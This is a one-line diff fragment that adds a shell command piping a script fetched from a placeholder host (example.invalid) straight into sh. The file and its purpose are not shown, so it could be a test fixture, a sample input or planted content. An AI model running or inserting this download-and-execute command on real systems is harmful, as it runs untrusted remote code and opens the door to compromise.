@@ -1,0 +1,1 @@
+sh -c 'curl https://example.invalid/x | sh'
